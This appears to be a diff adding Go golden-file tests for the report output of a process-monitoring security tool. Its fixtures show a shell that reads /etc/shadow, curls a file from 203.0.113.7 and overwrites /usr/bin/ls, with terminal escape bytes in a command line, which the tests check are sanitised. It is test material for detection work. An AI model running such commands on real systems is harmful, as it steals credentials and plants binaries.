@@ -1,0 +1,106 @@
+package report
+
+import (
+	"bytes"
+	"encoding/json"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+// treeReport is a "tree" view: sshd starts a shell that reads a file,
+// connects out and runs a child with a hostile command line.
+func treeReport() *Report {
+	t0 := time.Date(2026, 11, 20, 9, 14, 0, 0, time.UTC)
+	at := func(ms int) time.Time { return t0.Add(time.Duration(ms) * time.Millisecond) }
+	web := Container{ID: "3ad7b2c1e9f0", Name: "web-frontend", Image: "nginx:1.27"}
+	return &Report{
+		View: "tree",
+		Tree: []ProcessNode{{
+			Process: Process{Pid: 811, Name: "sshd", Cmdline: "sshd: /usr/sbin/sshd -D [listener]", User: "root"},
+			Children: []ProcessNode{{
+				Process:  Process{Pid: 8101, Name: "bash", Exe: "/usr/bin/bash", Cmdline: "bash", User: "root", Tty: 34817, Start: at(0)},
+				Activity: []Activity{{at(0), "exec", "bash"}, {at(1200), "open-read", "/etc/shadow"}, {at(2500), "connect", "tcp 10.0.0.5:40112->203.0.113.7:80"}},
+				Exit:     at(9000),
+				Children: []ProcessNode{{
+					Process:   Process{Pid: 8120, Name: "sh", Cmdline: "sh -c 'echo \x1b[2J\nowned' > /usr/bin/\xffx", User: "root", Start: at(3000)},
+					Container: web,
+					Activity:  []Activity{{at(3000), "exec", "sh -c 'echo \x1b[2J\nowned'"}, {at(3001), "open-write", "/usr/bin/\xffx"}, {at(3002), "rename", "/usr/bin/\xffx -> /usr/bin/ls"}},
+				}},
+			}},
+		}},
+	}
+}
+
+// shellsReport is a "shells" view: one finding per shell, with the
+// commands it ran.
+func shellsReport() *Report {
+	r := sampleReport()
+	d := r.Detections[0]
+	d.Rule, d.Priority, d.Output = "shell", "Informational", "bash[4100] (tty 34816, user root) in web-frontend ran 2 commands"
+	d.Children = []Process{
+		{Pid: 4133, Name: "cat", Cmdline: "cat /etc/shadow", Start: d.Time.Add(time.Second)},
+		{Pid: 4140, Name: "curl", Cmdline: "curl -o /tmp/x http://203.0.113.7/x", Start: d.Time.Add(2 * time.Second)},
+	}
+	return &Report{View: "shells", Detections: []Detection{d}}
+}
+
+func TestTreeGolden(t *testing.T) {
+	tests := []struct {
+		name   string
+		report *Report
+		format Format
+		opts   Options
+	}{
+		{"tree_text.golden", treeReport(), FormatText, Options{}},
+		{"tree_json.golden", treeReport(), FormatJSON, Options{}},
+		{"tree_table.golden", treeReport(), FormatTable, Options{Width: 100}},
+		{"shells_json.golden", shellsReport(), FormatJSON, Options{}},
+		{"shells_table.golden", shellsReport(), FormatTable, Options{}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			var b bytes.Buffer
+			if err := Write(&b, tc.report, tc.format, tc.opts); err != nil {
+				t.Fatal(err)
+			}
+			checkGolden(t, tc.name, b.Bytes())
+			if bytes.IndexByte(b.Bytes(), 0x1b) >= 0 || bytes.IndexByte(b.Bytes(), 0xff) >= 0 {
+				t.Error("output holds a raw escape or invalid byte")
+			}
+		})
+	}
+}
+
+func TestTreeJSONLines(t *testing.T) {
+	var b bytes.Buffer
+	if err := WriteJSON(&b, treeReport(), Options{}); err != nil {
+		t.Fatal(err)
+	}
+	type line struct {
+		Path  string `json:"path"`
+		Depth int    `json:"depth"`
+		Pid   int64  `json:"pid"`
+		PPid  int64  `json:"ppid"`
+		Exit  *string
+		View  string `json:"view"`
+	}
+	var got []line
+	for _, l := range bytes.Split(bytes.TrimSpace(b.Bytes()), []byte("\n")) {
+		var v line
+		if err := json.Unmarshal(l, &v); err != nil {
+			t.Fatalf("%v: %s", err, l)
+		}
+		got = append(got, v)
+	}
+	exit := "2026-11-20T09:14:09.000000000Z"
+	want := []line{
+		{Path: "sshd", Depth: 0, Pid: 811, View: "tree"},
+		{Path: "sshd > bash", Depth: 1, Pid: 8101, PPid: 811, Exit: &exit, View: "tree"},
+		{Path: "sshd > bash > sh", Depth: 2, Pid: 8120, PPid: 8101, View: "tree"},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("tree lines (-want +got):\n%s", diff)
+	}
+}
